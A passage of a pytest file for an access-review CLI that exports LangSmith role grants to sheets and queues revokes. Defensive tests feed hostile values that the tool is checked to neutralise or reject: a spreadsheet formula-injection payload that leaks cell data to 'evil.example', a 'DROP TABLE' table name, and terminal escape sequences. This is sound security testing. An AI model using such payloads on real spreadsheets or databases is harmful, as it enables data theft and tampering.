    assert outcomes[mangled["grant_id"]]["status"] == "would_queue"  # the grant_id alone decides
    rejected = outcomes[regranted["grant_id"]]
    assert rejected["status"] == "rejected" and "was granted again at" in rejected["message"], rejected
    assert "held since 2020-01-01T00:00:00Z" in rejected["message"] and "Export a new sheet" in rejected["message"]


def test_a_grant_provisioning_took_away_and_gave_back_after_the_export_is_not_revoked(env, tmp_path, capsys):
    """The real sequence, not a backdated cell: export, revoke applied, grant applied again. The
    grant has its old closed interval and a new open one; the sheet's row judged the old one."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    row = next(r for r in active_rows(rows) if r["is_scim_managed"] == "false")
    row["decision"] = "revoke"
    write_sheet(sheet, rows)
    request_revoke(row["user_id"], row["workspace_id"], row["role_id"], reason="moved team")
    assert provision().success
    request_grant(row["user_id"], row["workspace_id"], row["role_id"], reason="moved back")
    assert provision().success
    intervals = query(database.path, "SELECT count(*), count(*) FILTER (WHERE valid_to IS NULL) "
                                     "FROM main.grant_history WHERE grant_id = ?", [row["grant_id"]])
    assert intervals == [(2, 1)]
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--json")
    [outcome] = json.loads(stdout)["outcomes"]
    assert code == 2 and outcome["status"] == "rejected" and "was granted again at" in outcome["message"], outcome
    assert org.membership(row["workspace_id"], row["user_id"]) is not None
    assert not list_requests("pending")


def test_a_held_since_a_spreadsheet_cut_to_the_minute_or_the_day_is_the_same_grant(env, tmp_path, capsys):
    """A spreadsheet showing held_since as '2026-12-03 07:07' or '2026-12-03' saves it so: the
    time is cut, not moved, so the grant is the one exported, never one "granted again"."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    to_minute, to_day, older_day = active_rows(rows)[:3]
    to_minute.update(decision="revoke", held_since=to_minute["held_since"][:16].replace("T", " "))
    to_day.update(decision="revoke", held_since=to_day["held_since"][:10])
    older_day.update(decision="revoke", held_since="2020-01-01")
    write_sheet(sheet, rows)
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert code == 2
    outcomes = {o["grant_id"]: o for o in json.loads(stdout)["outcomes"]}
    assert outcomes[to_minute["grant_id"]]["status"] == "would_queue", outcomes[to_minute["grant_id"]]
    assert outcomes[to_day["grant_id"]]["status"] == "would_queue", outcomes[to_day["grant_id"]]
    assert outcomes[older_day["grant_id"]]["status"] == "rejected"
    assert "was granted again at" in outcomes[older_day["grant_id"]]["message"]


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_read_back(env, tmp_path, capsys):
    """Members choose their names and admins their workspaces': "=HYPERLINK(...)" must not run in
    the reviewer's spreadsheet. The cell gets a leading apostrophe (shown as text), which the
    queueing reads away, so the row still names its grant."""
    sandbox, org, database = env
    workspace, dutch = org.shared_workspaces()[:2]
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Ada")'
    with duckdb.connect(str(database.path)) as conn:  # as if LangSmith had listed these names
        conn.execute("UPDATE main.workspaces SET display_name = '-Ops' WHERE workspace_id = ?", [workspace.id])
        conn.execute("UPDATE main.review_sheet SET workspace_name = '-Ops' WHERE workspace_id = ?", [workspace.id])
        # A name that starts with an apostrophe of its own keeps it.
        conn.execute("UPDATE main.workspaces SET display_name = ? WHERE workspace_id = ?", ["'s-Hertogenbosch", dutch.id])
        conn.execute("UPDATE main.review_sheet SET workspace_name = ? WHERE workspace_id = ?",
                     ["'s-Hertogenbosch", dutch.id])
        conn.execute("UPDATE main.review_sheet SET full_name = ?", [formula])
        # Every character a spreadsheet starts a formula with (or skips before one), not only '=';
        # and where a cell starts inside the value: Excel in a locale whose list separator is ';'
        # splits the line at every ';' (quoted or not), and a line break then ends the row.
        others = {"+1+1": "'+1+1", "-1+1": "'-1+1", "@SUM(1,1)": "'@SUM(1,1)", "\t=1+1": "'\t'=1+1",
                  "\r=1+1": "'\r'=1+1", "Ada;=1+1;": "Ada;'=1+1;", 'Ada "x";@SUM(1)': 'Ada "x";\'@SUM(1)',
                  "Ada\n-2+3": "Ada\n'-2+3", "'=own apostrophe": "''=own apostrophe"}
        user_ids = [u for (u,) in conn.execute("SELECT DISTINCT user_id FROM main.review_sheet ORDER BY 1").fetchall()]
        for user_id, name in zip(user_ids, others, strict=False):
            conn.execute("UPDATE main.review_sheet SET full_name = ? WHERE user_id = ?", [name, user_id])
        semicolon = org.shared_workspaces()[2]
        for table, column in (("workspaces", "display_name"), ("review_sheet", "workspace_name")):
            conn.execute(f"UPDATE main.{table} SET {column} = 'R&D;=1+1' WHERE workspace_id = ?", [semicolon.id])
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    assert {r["full_name"] for r in rows} == {"'" + formula, *others.values()}
    for line in sheet.read_text(encoding="utf-8").replace("\r", "\n").split("\n"):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in line.split(";")), line
    marked = active_rows(rows, workspace.id)[0]
    assert marked["workspace_name"] == "'-Ops"
    marked["decision"] = "revoke"
    other = active_rows(rows, dutch.id)[0]
    assert other["workspace_name"] == "'s-Hertogenbosch"
    other["decision"] = "revoke"
    third = active_rows(rows, semicolon.id)[0]
    assert third["workspace_name"] == "R&D;'=1+1"
    third["decision"] = "revoke"
    write_sheet(sheet, rows)
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert code == 0, stdout
    assert [o["status"] for o in json.loads(stdout)["outcomes"]] == ["would_queue"] * 3, stdout


def test_a_review_table_holds_names_exactly_and_is_read_back_exactly(env, tmp_path, capsys):
    """Only the CSV sheet guards formulas with apostrophes; a DuckDB table holds each name as it
    is, so none is taken away when it is read back: a name's own "'=" or ";'-" still matches."""
    sandbox, org, database = env
    workspace, other = org.shared_workspaces()[:2]
    with duckdb.connect(str(database.path)) as conn:  # as if LangSmith had listed these names
        for workspace_id, name in ((workspace.id, "'=Ops"), (other.id, "R&D;'-1")):
            conn.execute("UPDATE main.workspaces SET display_name = ? WHERE workspace_id = ?", [name, workspace_id])
            conn.execute("UPDATE main.review_sheet SET workspace_name = ? WHERE workspace_id = ?", [name, workspace_id])
    review_db = tmp_path / "review.duckdb"
    assert run_cli(capsys, "review", "export", "--out", review_db)[0] == 0
    with duckdb.connect(str(review_db)) as conn:
        assert {n for (n,) in conn.execute("SELECT DISTINCT workspace_name FROM grant_review").fetchall()} >= {
            "'=Ops", "R&D;'-1"}
        conn.execute("UPDATE grant_review SET decision = 'revoke' WHERE grant_id IN (SELECT min(grant_id) "
                     "FROM grant_review WHERE workspace_id IN (?, ?) GROUP BY workspace_id)", [workspace.id, other.id])
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--review-db", review_db, "--table", "grant_review",
                              "--dry-run", "--json")
    assert code == 0 and [o["status"] for o in json.loads(stdout)["outcomes"]] == ["would_queue"] * 2, stdout


def test_names_holding_unicode_line_breaks_read_back_from_the_exported_sheet(env, tmp_path, capsys):
    """Members choose their names: one holding a line separator, a NEL or a form feed (which CSV
    writes unquoted) must not split its row when the sheet is read back, and so keep every
    reviewer's sheet from being queued."""
    sandbox, org, database = env
    with duckdb.connect(str(database.path)) as conn:  # as if LangSmith had listed these names
        conn.execute("UPDATE main.review_sheet SET full_name = 'Ada\u2028Lovelace\x85\x0c\x1e'")
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    assert {r["full_name"] for r in rows} == {"Ada\u2028Lovelace\x85\x0c\x1e"}
    marked = active_rows(rows)[1]
    marked["decision"] = "revoke"
    write_sheet(sheet, rows)
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert code == 0, (stdout, err)
    line = f"line {rows.index(marked) + 2}"  # the header is line 1
    assert [(o["where"], o["status"]) for o in json.loads(stdout)["outcomes"]] == [(line, "would_queue")]


def test_names_holding_a_carriage_return_read_back_as_they_were_exported(env, tmp_path, capsys):
    """A workspace name LangSmith lists with a carriage return ("\r=1+1", "Ops\r\nEU") is written
    inside its quoted cell as it is: read back with Python's newline translation it came back
    with "\n" for "\r" (and the apostrophe before "=" kept), no longer the grant's workspace, and
    every such row was rejected as edited."""
    sandbox, org, database = env
    names = dict(zip((w.id for w in org.shared_workspaces()), ("\r=1+1", "Ops\r\nEU", "Ops\r"), strict=False))
    with duckdb.connect(str(database.path)) as conn:  # as if LangSmith had listed these names
        for workspace_id, name in names.items():
            conn.execute("UPDATE main.workspaces SET display_name = ? WHERE workspace_id = ?", [name, workspace_id])
            conn.execute("UPDATE main.review_sheet SET workspace_name = ? WHERE workspace_id = ?", [name, workspace_id])
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    for workspace_id in names:
        active_rows(rows, workspace_id)[0]["decision"] = "revoke"
    write_sheet(sheet, rows)
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert code == 0, (stdout, err)
    assert [o["status"] for o in json.loads(stdout)["outcomes"]] == ["would_queue"] * len(names), stdout


def test_duckdb_table_round_trip_refuses_org_roles(env, tmp_path, capsys):
    sandbox, org, database = env
    review_db = tmp_path / "reviewer.duckdb"
    code, stdout, _ = run_cli(capsys, "review", "export", "--out", review_db, "--include-org-roles")
    assert code == 0 and "table grant_review" in stdout
    workspace = org.shared_workspaces()[1]
    with duckdb.connect(str(review_db)) as conn:
        (workspace_grant, user_id), = conn.execute(
            "SELECT grant_id, user_id FROM grant_review WHERE workspace_id = ? AND NOT is_disabled "
            "ORDER BY grant_id LIMIT 1", [workspace.id]).fetchall()
        (org_grant,), = conn.execute(
            "SELECT grant_id FROM grant_review WHERE entitlement_type = 'organization_role' "
            "ORDER BY grant_id LIMIT 1").fetchall()
        conn.execute("UPDATE grant_review SET decision = 'revoke', reason = 'dormant account' "
                     "WHERE grant_id IN (?, ?)", [workspace_grant, org_grant])
    # The table is the reviewer's: exporting again does not overwrite their marks.
    code, _, err = run_cli(capsys, "review", "export", "--out", review_db)
    assert code == 2 and "exists" in err

    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--review-db", review_db,
                              "--table", "grant_review", "--reviewer", "carol", "--json")
    assert code == 2  # one row rejected
    summary = json.loads(stdout)
    assert (summary["queued"], summary["rejected"]) == (1, 1)
    rejected = next(o for o in summary["outcomes"] if o["status"] == "rejected")
    assert rejected["grant_id"] == org_grant and "read-only" in rejected["message"]
    [recorded] = list_requests("rejected")
    assert "read-only" in recorded["status_detail"] and recorded["requested_by"] == "carol"
    [pending] = list_requests("pending")
    assert (pending["user_id"], pending["workspace_id"], pending["reason"]) == (user_id, workspace.id, "dormant account")

    assert provision().success
    assert org.membership(workspace.id, user_id) is None
    assert list_requests("applied")[0]["request_id"] == pending["request_id"]


def test_a_former_organization_role_on_a_sheet_is_refused_as_read_only_not_as_unknown(env, tmp_path, capsys):
    # An organization role that changed since the export (its grant_id is in grant_history only):
    # the reason is that organization roles are read-only here, not a mistyped id.
    sandbox, org, database = env
    with duckdb.connect(str(database.path)) as conn:
        conn.execute("INSERT INTO main.grant_history SELECT * REPLACE ('former-org-role' AS grant_id) "
                     "FROM main.grant_history WHERE entitlement_type = 'organization_role' LIMIT 1")
    sheet = tmp_path / "former.csv"
    sheet.write_text("grant_id,decision\nformer-org-role,revoke\n", encoding="utf-8")
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")
    assert code == 2 and "grant former-org-role is an organization role" in stdout, stdout
    assert "Organization roles are read-only here" in stdout and "unknown grant id" not in stdout


def test_a_blank_reviewer_is_no_reviewer(env, tmp_path, capsys):
    # "--reviewer $REVIEWER" with the variable blank: the OS user name is recorded, not spaces.
    sandbox, org, database = env
    sheet = exported_with_one_revoke(capsys, tmp_path)
    # A blank --reason ("--reason $REASON", the variable blank) is no reason either: the default.
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--reviewer", "   ",
                                "--reason", " ")
    assert code == 0, (stdout, err)
    [pending] = list_requests("pending")
    assert pending["requested_by"] == getpass.getuser()
    assert pending["reason"] == "access review (review.csv)"  # no --reason: the sheet's name


def test_a_reason_written_on_several_lines_is_recorded_on_one_and_the_rows_are_queued(env, tmp_path, capsys):
    """A reviewer's comment on several lines (Alt+Enter in Excel, a line break in a Google Sheets
    cell: a quoted cell holding LF or CRLF) was each row's rejection, "control or invisible
    characters", so the revoke the reviewer decided was not queued. Its lines are joined by spaces."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    excel, google = active_rows(rows)[:2]
    excel.update(decision="Revoke", reason="left the team\nin October")
    google.update(decision="revoke", reason="  moved to\r\n\r\n sales  ")
    with open(sheet, "w", newline="", encoding="utf-8") as handle:  # as Google Sheets saves it: CRLF rows
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]), lineterminator="\r\n")
        writer.writeheader()
        writer.writerows(rows)
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert code == 0 and [o["status"] for o in json.loads(stdout)["outcomes"]] == ["would_queue"] * 2, stdout
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--json")
    assert code == 0 and [o["status"] for o in json.loads(stdout)["outcomes"]] == ["queued"] * 2, stdout
    reasons = dict(query(database.path, "SELECT role_id || ':' || user_id, reason FROM main.provisioning_requests "
                                        "WHERE status = 'pending'"))
    assert reasons == {f"{excel['role_id']}:{excel['user_id']}": "left the team in October",
                       f"{google['role_id']}:{google['user_id']}": "moved to sales"}


def test_rows_named_by_user_workspace_and_role(env, tmp_path, capsys):
    sandbox, org, database = env
    workspace = org.shared_workspaces()[0]
    active = {m.ls_user_id: m for m in org.active_members() if not m.is_disabled and m.email.isascii()}
    names = [r.display_name for r in org.roles_by_scope("workspace")]
    member = next(m for m in workspace.memberships.values()
                  if m.ls_user_id in active and names.count(org.role(m.role_id).display_name) == 1)
    email = active[member.ls_user_id].email
    role = org.role(member.role_id).display_name
    admin_role = next(r.display_name for r in org.roles_by_scope("organization"))
    not_held = next(name for name in names if name != role and names.count(name) == 1)
    outside = next(w for w in org.shared_workspaces() if member.ls_user_id not in w.memberships)
    sheet = tmp_path / "by_name.csv"
    # Semicolon-separated, a boolean 'revoke' column, names instead of ids.
    sheet.write_text(
        "User;Workspace;Role;Revoke;Reason\n"
        f"{email.upper()};{workspace.id};{role};yes;contractor ended\n"
        f"someone@else.example;{workspace.id};{role};y;\n"
        f"{email};{workspace.id};{admin_role};x;\n"
        f"{email};{workspace.id};{role};no;\n"
        f"{email};{workspace.id};{not_held};yes;\n"  # not the role held there: would remove nothing
        f"{email};{outside.id};{role};yes;\n",  # no role there at all
        encoding="utf-8",
    )
    # Two rows naming one grant (by email, by user id): a dry run counts it once, as queueing does.
    twice = tmp_path / "twice.csv"
    twice.write_text(f"user,workspace,role,revoke\n{email},{workspace.id},{role},yes\n"
                     f"{member.ls_user_id},{workspace.id},{role},yes\n", encoding="utf-8")
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", twice, "--dry-run")
    assert code == 0 and "2 marked revoke: 1 would queue, 1 already queued or done" in stdout, stdout
    assert "the same change as line 2 of this sheet" in stdout, stdout
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--reviewer", "dave")
    assert code == 2
    assert "unknown user" in stdout and "organization role" in stdout and "read-only" in stdout
    assert f"holding {role!r} in {workspace.display_name}, not {not_held!r}: revoking it would remove nothing" \
        in stdout, stdout
    assert f"holding no role in {outside.display_name}" in stdout
    assert "1 queued, 0 already queued or done, 4 rejected" in stdout
    [pending] = list_requests("pending")
    assert (pending["user_id"], pending["role_id"], pending["reason"], pending["requested_by"]) == (
        member.ls_user_id, member.role_id, "contractor ended", "dave")
    assert len(list_requests("rejected")) == 4


def test_a_row_without_grant_id_whose_cells_name_different_roles_is_rejected_not_guessed(env, tmp_path, capsys):
    """An exported row whose grant_id was cleared (as the message about an edited row suggests)
    after another role was typed over its role_name: the role_id still names the exported role.
    Revoking by the first cell would take away a role the row's other cell says is not meant."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    row, agreeing = active_rows(rows)[:2]
    typed_over = next(r.display_name for r in org.roles_by_scope("workspace") if r.display_name != row["role_name"])
    row.update(grant_id="", role_name=typed_over, decision="revoke")
    agreeing.update(grant_id="", decision="revoke")  # cleared, every cell as exported: queued
    write_sheet(sheet, rows)
    for dry_run in (["--dry-run"], []):
        code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--json", *dry_run)
        outcomes = {o["where"]: o for o in json.loads(stdout)["outcomes"]}
        disagreeing = outcomes[f"line {rows.index(row) + 2}"]
        assert code == 2 and disagreeing["status"] == "rejected", stdout
        assert f"role_name {typed_over!r}" in disagreeing["message"] and "disagree" in disagreeing["message"]
        assert outcomes[f"line {rows.index(agreeing) + 2}"]["status"] in ("would_queue", "queued"), stdout
    [pending] = list_requests("pending")
    assert (pending["user_id"], pending["role_id"]) == (agreeing["user_id"], agreeing["role_id"])
    assert len(list_requests("rejected")) == 1


def test_a_sheet_named_by_user_workspace_and_role_imported_again_after_provisioning_is_done(env, tmp_path, capsys):
    """As a sheet of grant_ids: once its revokes were applied, the same sheet queues nothing and
    records nothing (no rejection per row and run, exit 0): its grants are gone because of them."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    row = active_rows(rows)[0]
    row.update(grant_id="", decision="revoke")
    write_sheet(sheet, rows)
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet)
    assert code == 0 and "1 queued" in stdout, stdout
    assert provision().success
    assert org.membership(row["workspace_id"], row["user_id"]) is None
    for dry_run in (["--dry-run"], []):
        code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, *dry_run)
        assert code == 0 and "already revoked: request " in stdout, stdout
        assert "0 queued" in stdout or "0 would queue" in stdout
    assert [r["status"] for r in list_requests()] == ["applied"]
    # Not when its cells disagree on which grant it is: that is rejected, not taken for done.
    row["role_name"] = next(r.display_name for r in org.roles_by_scope("workspace")
                            if r.display_name != row["role_name"])
    write_sheet(sheet, rows)
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")
    assert code == 2 and "disagree" in stdout and "already revoked" not in stdout, stdout


def test_a_member_named_by_their_org_identity_id_is_no_disagreement(env, tmp_path, capsys):
    """The queue takes a member's org identity id for the member: the cell that named the row's
    user is what it resolved to, whatever form it has; only the row's other cells must agree."""
    sandbox, org, database = env
    (identity, email, workspace_id, role_name), = query(
        database.path,
        "SELECT u.org_identity_id, g.email, g.workspace_id, g.role_name FROM main.grants AS g "
        "JOIN main.users AS u USING (user_id) WHERE g.entitlement_type = 'workspace_role' "
        "AND u.org_identity_id IS NOT NULL AND u.org_identity_id <> u.user_id AND NOT u.is_disabled "
        "ORDER BY g.grant_id LIMIT 1",
    )
    sheet = tmp_path / "by_identity.csv"
    sheet.write_text(f"user,workspace_id,role_id,role_name,decision\n{identity},{workspace_id},,{role_name},revoke\n",
                     encoding="utf-8")
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")
    assert code == 0 and "1 would queue" in stdout and email.lower() in stdout.lower(), stdout


def test_beside_a_grant_id_cells_may_name_the_grant_by_ids_or_role_names(env, tmp_path, capsys):
    """A sheet built by hand or from another table: beside the grant_id, `user` may hold the user
    id, `workspace` the workspace id, `role` the role id or the role's name (as `role_name` may):
    each still describes the grant, so the row is no edit and is queued."""
    sandbox, org, database = env
    (g1, user_id, _, w1, role_id, _), (g2, _, email, w2, _, role_key) = query(
        database.path,
        "SELECT g.grant_id, g.user_id, g.email, g.workspace_id, g.role_id, r.name FROM main.grants AS g "
        "JOIN main.roles AS r USING (role_id) WHERE g.entitlement_type = 'workspace_role' "
        "AND r.name <> g.role_name ORDER BY g.grant_id LIMIT 2",
    )
    sheet = tmp_path / "by_ids.csv"
    sheet.write_text("grant_id,user,workspace,role,role_name,decision\n"
                     f"{g1},{user_id},{w1},{role_id},,revoke\n"
                     f"{g2},{email},{w2},{role_key},{role_key},revoke\n", encoding="utf-8")
    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run", "--json")
    assert code == 0, stdout
    assert [o["status"] for o in json.loads(stdout)["outcomes"]] == ["would_queue", "would_queue"], stdout


def test_a_dry_run_refuses_a_reason_the_queue_refuses(env, tmp_path, capsys):
    """--dry-run answers what queueing would: a reason too long for a request is rejected by both."""
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    active_rows(rows)[0].update(decision="revoke", reason="x" * 2001)
    write_sheet(sheet, rows)
    for dry_run in (["--dry-run"], []):
        code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--json", *dry_run)
        [outcome] = json.loads(stdout)["outcomes"]
        assert code == 2 and outcome["status"] == "rejected", outcome
        assert "reason is 2001 characters long; at most 2000" in outcome["message"], outcome
    assert len(list_requests("rejected")) == 1 and not list_requests("pending")


def test_a_reviewer_cell_the_queue_refuses_is_named_as_the_sheet_names_it(env, tmp_path, capsys):
    # A reviewer cell holding a control character (an ESC sequence pasted into the sheet) was
    # rejected as "requested_by contains ...": the queue's field, which the sheet has no column
    # for. The rejection names the row's reviewer, as the --reviewer option's names it.
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    active_rows(rows)[0].update(decision="revoke", reviewer="=bo\x1b[2Jb")
    write_sheet(sheet, rows)
    for dry_run in (["--dry-run"], []):
        code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--json", *dry_run)
        [outcome] = json.loads(stdout)["outcomes"]
        assert code == 2 and outcome["status"] == "rejected", outcome
        assert outcome["message"] == ("the row's reviewer contains control or invisible characters: "
                                      "type it again plainly."), outcome
    assert len(list_requests("rejected")) == 1 and not list_requests("pending")


@pytest.mark.parametrize(("option", "value", "said"), [
    ("--reason", "bad\x07reason", "the reason for rows without one (--reason) contains control"),
    ("--reason", "x" * 2001, "the reason for rows without one (--reason) is 2001 characters long"),
    ("--reviewer", "bo\x1bb", "the reviewer for rows without one (--reviewer) contains control"),
])
def test_a_reason_or_reviewer_option_the_queue_refuses_is_refused_once_and_queues_nothing(
        env, tmp_path, capsys, option, value, said):
    # Not one recorded rejection per marked row: the option is the command's, not a row's.
    sandbox, org, database = env
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    for row in active_rows(rows)[:2]:
        row.update(decision="revoke")
    write_sheet(sheet, rows)
    for dry_run in (["--dry-run"], []):
        code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, option, value, *dry_run)
        assert code == 2 and said in err and "Nothing was queued" in err, (stdout, err)
    assert not list_requests("rejected") and not list_requests("pending")


def test_a_database_whose_sync_built_no_grant_history_asks_for_a_sync(env, tmp_path, capsys):
    sandbox, org, database = env
    with duckdb.connect(str(database.path)) as conn:  # as a sync that stopped before dbt built it
        conn.execute("DROP TABLE main.grant_history")
    sheet = tmp_path / "review.csv"
    sheet.write_text("grant_id,decision\nabc,revoke\n", encoding="utf-8")
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")
    assert code == 2 and "has no grant_history yet" in err and "langsmith-access sync" in err, (stdout, err)


BAD_SHEETS = {
    "no decision column": ("grant_id,email\nabc,a@b.c\n", "no 'decision' column"),
    "no way to name the grant": ("email,decision\na@b.c,revoke\n", "needs a 'grant_id' column"),
    "ragged row": ("grant_id,decision\nabc,revoke,extra\n", "line 2: 3 fields where the header has 2"),
    "unknown decision": ("grant_id,decision\nabc,revok\n", "line 2: decision 'revok' is not"),
    "marked row without id": ("grant_id,user,workspace,role,decision\n,a@b.c,,Editor,revoke\n",
                              "line 2: marked revoke but has no grant_id, and no workspace"),
    "marked row without id or role": ("grant_id,user,workspace,role,decision\n,a@b.c,Platform,,revoke\n",
                                      "line 2: marked revoke but has no grant_id, and no role"),
    "both decision columns": ("grant_id,decision,revoke\nabc,revoke,yes\n", "both a 'decision' and a 'revoke'"),
    "repeated column": ("grant_id,decision,decision\nabc,revoke,keep\n", "more than once"),
    "empty file": ("", "is empty"),
    "unterminated quote": ('grant_id,decision\n"abc,revoke\n', "not valid CSV"),
}


@pytest.mark.parametrize("case", list(BAD_SHEETS))
def test_malformed_sheets_queue_nothing(env, tmp_path, capsys, case):
    sandbox, org, database = env
    text, message = BAD_SHEETS[case]
    sheet = tmp_path / "bad.csv"
    sheet.write_text(text, encoding="utf-8")
    code, stdout, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet)
    assert code == 2
    assert message in err, err
    assert stdout == ""
    assert request_count(database) == 0


def test_unusable_sources_give_clear_messages(env, tmp_path, capsys):
    sandbox, org, database = env
    binary = tmp_path / "sheet.csv"
    binary.write_bytes(b"\xff\xfe\x00grant_id\x00")
    cases = [
        (["--file", tmp_path / "missing.csv"], "no such file"),
        (["--file", tmp_path], "is a directory"),
        (["--file", binary], "not UTF-8"),
        (["--table", "grant_review"], "--table needs --review-db"),
        (["--table", "grant_review", "--review-db", tmp_path / "none.duckdb"], "no such DuckDB file"),
        (["--table", "grant_review", "--review-db", database.path], "is the analysts' database"),
        (["--table", "grant_review", "--review-db", database.working_path], "is the analysts' database"),
        (["--table", "grant_review", "--review-db", binary], "is not a DuckDB file"),
    ]
    review_db = tmp_path / "mine.duckdb"
    with duckdb.connect(str(review_db)) as conn:
        conn.execute("CREATE TABLE notes (text VARCHAR)")
    cases.append((["--table", "x; DROP TABLE y", "--review-db", review_db], "not a plain name"))
    cases.append((["--table", "grant_review", "--review-db", review_db], "no table grant_review in"))
    # A CSV sheet named with a DuckDB file beside it: which one was meant is not guessed.
    sheet = tmp_path / "marked.csv"
    sheet.write_text("grant_id,decision\nabc,revoke\n", encoding="utf-8")
    cases.append((["--file", sheet, "--review-db", review_db], "--review-db goes with --table"))
    for argv, message in cases:
        code, stdout, err = run_cli(capsys, "review", "queue-revokes", *argv)
        assert code == 2 and message in err, (argv, err)
    assert request_count(database) == 0


def test_a_sheet_from_a_database_built_before_deny_policy_names_asks_for_a_sync(env, tmp_path, capsys):
    sandbox, org, database = env
    with duckdb.connect(str(database.path)) as conn:  # as an older version built it
        conn.execute("ALTER TABLE main.review_sheet DROP COLUMN deny_policy_names")
    out = tmp_path / "review.csv"
    code, _, err = run_cli(capsys, "review", "export", "--out", out)
    assert code == 2 and "no deny_policy_names column" in err and "langsmith-access sync" in err, err
    assert not out.exists()


def test_no_database_yet(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("LANGSMITH_ACCESS_DUCKDB", str(tmp_path / "none.duckdb"))
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("grant_id,decision\nabc,revoke\n", encoding="utf-8")
    code, _, err = run_cli(capsys, "review", "queue-revokes", "--file", sheet)
    assert code == 1 and "does not exist yet" in err
    code, _, err = run_cli(capsys, "review", "export", "--out", tmp_path / "out.csv")
    assert code == 1 and "does not exist yet" in err


def test_a_cell_typed_composed_still_describes_a_name_langsmith_sent_decomposed(env, tmp_path, capsys):
    """LangSmith keeps names as they were typed: it may send "E" + U+0301 (decomposed) where the
    reviewer's spreadsheet, or the reviewer retyping the cell, has the composed "\u00c9" that looks
    the same. That is no edit: the row is queued."""
    sandbox, org, database = env
    workspace = org.shared_workspaces()[0]
    decomposed = f"E\u0301quipe {workspace.display_name}"
    with duckdb.connect(str(database.path)) as conn:  # the sync stored the name as LangSmith sent it
        conn.execute("UPDATE main.workspaces SET display_name = ? WHERE workspace_id = ?", [decomposed, workspace.id])
    sheet = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", sheet)[0] == 0
    rows = read_sheet(sheet)
    row = active_rows(rows, workspace.id)[0]
    row.update(decision="revoke", workspace_name=f"\u00c9quipe {workspace.display_name}")
    write_sheet(sheet, rows)

    code, stdout, _ = run_cli(capsys, "review", "queue-revokes", "--file", sheet, "--dry-run")

    assert code == 0 and "1 would queue, 0 already queued or done, 0 rejected" in stdout, stdout


def test_a_revoke_of_an_organization_admins_workspace_role_says_admin_access_remains(env, tmp_path, capsys):
    # The revoke takes the workspace role away, not the member's access: an Organization Admin is
    # an implicit Admin of every workspace. Said when the row is queued (and in a dry run), not
    # only once the provisioning run has settled it.
    sandbox, org, database = env
    out = tmp_path / "review.csv"
    assert run_cli(capsys, "review", "export", "--out", out)[0] == 0
    rows = read_sheet(out)
    admins = {u for (u,) in query(database.path, "SELECT user_id FROM main.users u JOIN main.roles r "
                                  "ON r.role_id = u.org_role_id WHERE r.name = 'ORGANIZATION_ADMIN'")}
    admin_row = next(r for r in active_rows(rows) if r["user_id"] in admins)
    member_row = next(r for r in active_rows(rows) if r["user_id"] not in admins)
    admin_row["decision"] = member_row["decision"] = "revoke"
    write_sheet(out, rows)
